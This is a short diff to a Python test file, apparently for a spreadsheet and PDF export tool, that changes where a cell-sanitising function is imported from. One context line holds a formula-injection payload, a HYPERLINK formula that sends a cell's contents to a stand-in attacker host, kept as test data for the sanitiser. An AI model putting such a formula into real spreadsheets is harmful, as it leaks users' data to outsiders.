@@ -8,7 +8,8 @@ import pypdf
 from extraction import Answer, Evidence, Status
 from scoring import Intake, load_profile, score
 from scoring.compare import compare
-from scoring.export import comparison_pdf, comparison_xlsx, safe_cell, scorecard_pdf, scorecard_xlsx
+from aivet.cells import safe_cell
+from scoring.export import comparison_pdf, comparison_xlsx, scorecard_pdf, scorecard_xlsx
 
 HOSTILE = '=HYPERLINK("https://attacker.example/?d="&A1,"Details")'
 
